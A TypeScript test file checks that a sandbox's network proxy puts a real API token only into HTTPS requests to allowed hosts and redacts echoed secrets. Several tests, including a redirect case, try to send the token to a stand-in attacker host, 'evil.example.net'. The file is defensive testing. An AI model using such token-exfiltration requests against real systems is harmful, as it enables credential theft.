import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { afterEach, describe, expect, it } from 'vitest';
import { Errno, errno } from '../../../src/abi/errno.js';
import { Client, failureOf, Stage, type Toy, tlsFile, toLoopback } from './network-support.js';

const stage = new Stage();
afterEach(() => stage.end());

const VALUE = 'tok_Zm9v/9+x';
const STARS = '*'.repeat(VALUE.length);
const names = ['api.example.com', 'evil.example.net', 'a.wild.example.org'];
const tls = { key: tlsFile('server.key'), cert: tlsFile('server.crt') };

type Handler = (request: IncomingMessage, response: ServerResponse, body: string) => void;

function listener(handle: Handler) {
  return (request: IncomingMessage, response: ServerResponse): void => {
    let body = '';
    request.on('data', (bytes) => {
      body += bytes;
    });
    request.on('end', () => handle(request, response, body));
  };
}

async function secureServer(handle: Handler): Promise<number> {
  return stage.listen(createHttpsServer(tls, listener(handle)));
}

function deviceFor(port: number, hosts: readonly string[], value = VALUE): Toy {
  return stage.device(
    {
      allow: [...names.map((name) => `${name}:${port}`), `127.0.0.1:${port}`, `127.0.0.0/8:${port}`],
      resolver: toLoopback,
      ca: tlsFile('root.crt'),
    },
    { TOKEN: { value, hosts } },
  );
}

function head(line: string, host: string, ...fields: string[]): string {
  return [`${line} HTTP/1.1`, `Host: ${host}`, ...fields, '', ''].join('\r\n');
}

describe('a secret', () => {
  it('is a placeholder inside, and another in each sandbox', () => {
    const { environment } = deviceFor(1, ['api.example.com']);
    expect(environment['TOKEN']).toMatch(/^vitrine-secret-TOKEN-[0-9a-f]{32}$/);
    expect(deviceFor(1, ['api.example.com']).environment['TOKEN']).not.toBe(environment['TOKEN']);
  });

  it('is put into requests to its hosts: fields, target, basic credentials', async () => {
    const seen: IncomingMessage[] = [];
    const port = await secureServer((request, response) => {
      seen.push(request);
      response.end('ok]');
    });
    const { device, oversight, environment } = deviceFor(port, ['api.example.com']);
    const placeholder = environment['TOKEN'] as string;
    const client = await Client.openTls(device, 'api.example.com', port);
    const basic = Buffer.from(`me:${placeholder}`).toString('base64');
    await client.send(
      head(
        `GET /x?key=${placeholder}&y=1`,
        'api.example.com',
        `Authorization: Bearer ${placeholder}`,
        `X-Twice: ${placeholder}, ${placeholder}`,
        'Accept-Encoding: gzip, br',
        'accept_encoding: gzip',
        'TE: gzip',
        'X-Accept-Encoding: br',
      ),
    );
    await client.receiveUntil(']');
    await client.send(head('GET /basic', 'api.example.com', `authorization:basic ${basic}`));
    await client.receiveUntil(']');
    const [first, second] = seen;
    expect(first?.url).toBe(`/x?key=${encodeURIComponent(VALUE)}&y=1`);
    expect(first?.headers).toMatchObject({
      authorization: `Bearer ${VALUE}`,
      'x-twice': `${VALUE}, ${VALUE}`,
      'accept-encoding': 'identity',
      'x-accept-encoding': 'br',
    });
    expect(first?.rawHeaders.map((name) => name.toLowerCase())).not.toContain('te');
    expect(first?.rawHeaders).not.toContain('gzip');
    expect(Buffer.from(second?.headers.authorization?.slice(6) ?? '', 'base64').toString()).toBe(
      `me:${VALUE}`,
    );
    expect(oversight.refusals).toEqual([]);
    // Policy and report know the placeholder only.
    expect(JSON.stringify(oversight.requests)).toContain(placeholder);
    const asked = oversight.requests.flatMap((request) =>
      request.kind === 'http' ? [...request.headers] : [],
    );
    expect(JSON.stringify([oversight.requests, asked])).not.toContain(VALUE);
  });

  it('stays a placeholder towards every other host, and in bodies', async () => {
    const seen: string[] = [];
    const port = await secureServer((request, response, body) => {
      seen.push(
        `${request.url} ${request.headers['x-token']} ${request.headers.authorization ?? ''} ${body}`,
      );
      response.end('ok]');
    });
    const { device, oversight, environment } = deviceFor(port, ['api.example.com']);
    const placeholder = environment['TOKEN'] as string;
    const basic = Buffer.from(`me:${placeholder}`).toString('base64');
    for (const [host, fields] of [
      ['evil.example.net', [`X-Token: ${placeholder}`]],
      ['a.wild.example.org', [`Authorization: Basic ${basic}`]],
      ['127.0.0.1', [`X-Token: ${placeholder}`]],
    ] as const) {
      const client = await Client.openTls(device, host, port);
      await client.send(head('GET /a?b', host, ...fields));
      await client.receiveUntil(']');
      expect(oversight.refusals.at(-1)).toBe(`http https://${host}:${port}/a EACCES`);
    }
    const client = await Client.openTls(device, 'api.example.com', port);
    await client.send(
      `${head('POST /body', 'api.example.com', `Content-Length: ${placeholder.length}`)}${placeholder}`,
    );
    await client.receiveUntil(']');
    expect(seen).toHaveLength(4);
    expect(seen.join('\n')).not.toContain(VALUE);
    expect(seen[3]).toContain(placeholder);
    expect(oversight.refusals).toHaveLength(3);
  });

  it('does not follow a redirect, which is a request of its own', async () => {
    const seen: string[] = [];
    const port = await secureServer((request, response) => {
      seen.push(`${request.headers.host} ${request.headers['x-token']}`);
      response.writeHead(302, {
        location: `https://evil.example.net:${port}/?t=${request.headers['x-token']}`,
      });
      response.end(']');
    });
    const { device, environment } = deviceFor(port, ['api.example.com']);
    const placeholder = environment['TOKEN'] as string;
    const client = await Client.openTls(device, 'api.example.com', port);
    await client.send(head('GET /', 'api.example.com', `X-Token: ${placeholder}`));
    const answer = await client.receiveUntil(']');
    expect(answer).toContain(
      `location: https://evil.example.net:${port}/?t=${placeholder}`.replace('location', 'location'),
    );
    const other = await Client.openTls(device, 'evil.example.net', port);
    await other.send(head(`GET /?t=${placeholder}`, 'evil.example.net', `X-Token: ${placeholder}`));
    await other.receiveUntil(']');
    expect(seen).toEqual([`api.example.com ${VALUE}`, `evil.example.net ${placeholder}`]);
  });

  it('goes to hosts below a wildcard, and to one port when that is said', async () => {
    const seen: unknown[] = [];
    const port = await secureServer((request, response) => {
      seen.push(request.headers['x-token']);
      response.end(']');
    });
    for (const [hosts, isSent] of [
      [['*.wild.example.org'], true],
      [[`*.wild.example.org:${port}`], true],
      [['*.wild.example.org:443'], port === 443],
      [['*.example.org'], true],
      [['wild.example.org'], false],
      [['*.a.wild.example.org'], false],
    ] as const) {
      const { device, environment } = deviceFor(port, hosts);
      const client = await Client.openTls(device, 'a.wild.example.org', port);
      await client.send(head('GET /', 'a.wild.example.org', `X-Token: ${environment['TOKEN']}`));
      await client.receiveUntil(']');
      expect(seen.at(-1)).toBe(isSent ? VALUE : environment['TOKEN']);
    }
  });

  it('never leaves in plain text, but to a loopback address that is named with its port', async () => {
    const seen: unknown[] = [];
    const port = await stage.listen(
      createHttpServer(
        listener((request, response) => {
          seen.push(request.headers['x-token']);
          response.end(']');
        }),
      ),
    );
    for (const [hosts, host, isSent] of [
      [['api.example.com', `api.example.com:${port}`], 'api.example.com', false],
      [['127.0.0.1'], '127.0.0.1', false],
      [[`127.0.0.1:${port}`], '127.0.0.1', true],
      [[`127.0.0.0/8:${port}`], '127.0.0.1', true],
      [[`127.0.0.1:${port + 1}`], '127.0.0.1', false],
      // The name leads to the same address; but a name is not an address.
      [[`127.0.0.1:${port}`], 'api.example.com', false],
    ] as const) {
      const { device, environment } = deviceFor(port, hosts);
      const client = await Client.open(device, host, port);
      await client.send(head('GET /', `${host}:${port}`, `X-Token: ${environment['TOKEN']}`));
      await client.receiveUntil(']');
      expect(seen.at(-1)).toBe(isSent ? VALUE : environment['TOKEN']);
    }
  });

  it('is not put into what is not HTTP', async () => {
    const seen: string[] = [];
    const port = await stage.serve((socket) => {
      socket.on('data', (bytes) => seen.push(bytes.toString()));
      socket.on('end', () => socket.end());
    });
    const { device, environment } = deviceFor(port, [`127.0.0.1:${port}`]);
    const client = await Client.open(device, '127.0.0.1', port);
    await client.send(`AUTH ${environment['TOKEN']}\r\n`);
    device.shutdown(client.socket, 1);
    await client.receiveAll();
    expect(seen.join('')).toBe(`AUTH ${environment['TOKEN']}\r\n`);
  });

  it('does not leave when policy refuses', async () => {
    let reached = 0;
    const port = await secureServer((_, response) => {
      reached++;
      response.end();
    });
    const { device, oversight, environment } = deviceFor(port, ['api.example.com']);
    oversight.decide = async (request) => {
      if (request.kind === 'http') throw errno(Errno.EACCES);
    };
    const client = await Client.openTls(device, 'api.example.com', port);
    await client.send(head('GET /', 'api.example.com', `X-Token: ${environment['TOKEN']}`));
    expect(await failureOf(() => client.receive())).toBe('EACCES');
    expect(reached).toBe(0);
  });
});

describe('a server that repeats what it is sent', () => {
  /** Sends the head that it got as a body, in pieces that cut everything. */
  function echo(form: (text: string) => string, piece: number): Handler {
    return (request, response) => {
      const text = form(`${request.url} ${JSON.stringify(request.rawHeaders)} `);
      response.setHeader('X-Echo', String(request.headers['x-token']));
      response.setHeader('X-Echo-64', Buffer.from(`..${request.headers['x-token']}`).toString('base64'));
      if (piece === 0) response.setHeader('Content-Length', Buffer.byteLength(`${text}]]`));
      if (piece === 0) return void response.end(`${text}]]`);
      for (let i = 0; i < text.length; i += piece) response.write(text.slice(i, i + piece));
      response.end(']]');
    };
  }

  it.each([0, 1, 3, 7, 1000])('does not give it away, in pieces of %d', async (piece) => {
    const forms = [
      (text: string) => text,
      (text: string) => Buffer.from(text).toString('base64'),
      (text: string) => encodeURIComponent(text),
    ];
    for (const form of forms) {
      const port = await secureServer(echo(form, piece));
      const { device, environment } = deviceFor(port, ['api.example.com']);
      const client = await Client.openTls(device, 'api.example.com', port);
      for (const path of ['/first', '/second']) {
        const request = head(
          `GET ${path}?${environment['TOKEN']}`,
          'api.example.com',
          `X-Token: ${environment['TOKEN']}`,
        );
        await client.send(request);
        const answer = await client.receiveUntil(']]');
        expect(answer).toContain(`X-Echo: ${environment['TOKEN']}\r\n`);
        const joined = answer.replace(/\r\n[0-9a-f]+\r\n/g, '');
        expect(joined).not.toContain(VALUE);
        expect(joined).not.toContain(encodeURIComponent(VALUE));
        expect(Buffer.from(joined, 'base64').toString('latin1')).not.toContain(VALUE.slice(1, -1));
        expect(joined).toContain('***');
        if (form('a b') === 'a b') expect(joined).toContain(STARS);
        // The last chunk belongs to the answer.
        if (piece !== 0 && !answer.endsWith('0\r\n\r\n')) await client.receiveUntil('0\r\n\r\n');
      }
    }
  });

  it('does not give it away on another connection, or to a request without it', async () => {
    let remembered = '';
    const port = await secureServer((request, response) => {
      remembered ||= String(request.headers['x-token'] ?? '');
      response.end(`${remembered}]`);
    });
    const { device, environment } = deviceFor(port, ['api.example.com']);
    for (const fields of [[`X-Token: ${environment['TOKEN']}`], []]) {
      const client = await Client.openTls(device, 'api.example.com', port);
      await client.send(head('GET /', 'api.example.com', ...fields, 'Accept-Encoding: gzip'));
      expect(await client.receiveUntil(']')).toContain(`${STARS}]`);
    }
    expect(remembered).toBe(VALUE);
  });

  it('is cut off when its answers cannot be read', async () => {
    const port = await stage.serve((socket) => {
      socket.on('data', () => socket.write('HTTP/1.1 200 OK\r\nContent-Length: 1, 2\r\n\r\nx'));
    });
    const { device, oversight, environment } = deviceFor(port, [`127.0.0.1:${port}`]);
    const client = await Client.open(device, '127.0.0.1', port);
    await client.send(head('GET /', '127.0.0.1', `X-Token: ${environment['TOKEN']}`));
    expect(await failureOf(() => client.receiveAll())).toBe('ECONNRESET');
    expect(oversight.refusals).toEqual([`network 127.0.0.1:${port} ECONNRESET`]);
  });

  it('gets no request that values make too long', async () => {
    let reached = 0;
    const port = await secureServer((_, response) => {
      reached++;
      response.end();
    });
    const { device, oversight, environment } = deviceFor(port, ['api.example.com'], 'x'.repeat(4096));
    const client = await Client.openTls(device, 'api.example.com', port);
    const fields = Array.from({ length: 200 }, (_, i) => `X-${i}: ${environment['TOKEN']}`);
    expect(await failureOf(() => client.send(head('GET /', 'api.example.com', ...fields)))).toBe(
      'ECONNRESET',
    );
    expect(oversight.refusals).toEqual([`http https://api.example.com:${port}/ ECONNRESET`]);
    expect(reached).toBe(0);
  });
});
